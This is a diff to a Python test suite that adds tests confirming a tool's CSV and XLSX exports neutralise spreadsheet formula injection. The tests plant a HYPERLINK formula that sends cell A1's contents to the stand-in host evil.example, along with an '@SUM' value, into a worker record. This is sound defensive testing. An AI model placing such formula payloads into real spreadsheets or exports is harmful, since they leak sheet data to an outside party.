@@ -203,3 +203,47 @@ def test_a_record_with_a_duplicate_key_is_not_a_record(
     forged.write_text(text, encoding="utf-8")
     assert main(["replay", str(forged)]) == 1
     assert "is not a decision record: the key 'format' is given twice" in capsys.readouterr().err
+
+
+# Finding 10: no formula reaches a spreadsheet; every cell is typed.
+
+EVIL = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+
+
+def _evil_case(tmp_path: Path) -> Path:
+    import yaml
+
+    data = yaml.safe_load(EXAMPLE.read_text(encoding="utf-8"))
+    data["worker"]["full_name"] = EVIL
+    data["worker"]["education"] = "@SUM(1+1)"
+    case = tmp_path / "evil.yaml"
+    case.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
+    return case
+
+
+def test_a_csv_cell_never_starts_a_formula(
+    tmp_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    import csv
+    import io
+
+    assert main(["annex2", str(_evil_case(tmp_path))]) == 0
+    rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
+    cells = rows[1]
+    assert cells[2] == "'" + EVIL and cells[3] == "'@SUM(1+1)"
+    assert not any(c.startswith(("=", "+", "-", "@")) for row in rows[1:] for c in row)
+
+
+def test_an_xlsx_cell_is_text_or_a_real_date_never_a_formula(tmp_path: Path) -> None:
+    import datetime as dt
+
+    from openpyxl import load_workbook
+
+    out = tmp_path / "table.xlsx"
+    assert main(["annex2", str(_evil_case(tmp_path)), "--format", "xlsx", "-o", str(out)]) == 0
+    sheet = load_workbook(out).active
+    assert sheet is not None
+    name, date = sheet.cell(row=4, column=3), sheet.cell(row=4, column=8)
+    assert name.value == EVIL and name.data_type == "s"
+    assert isinstance(date.value, dt.datetime) and date.value.date() == dt.date(2025, 3, 3)
+    assert sheet.cell(row=4, column=1).value == 1  # the row number, a number
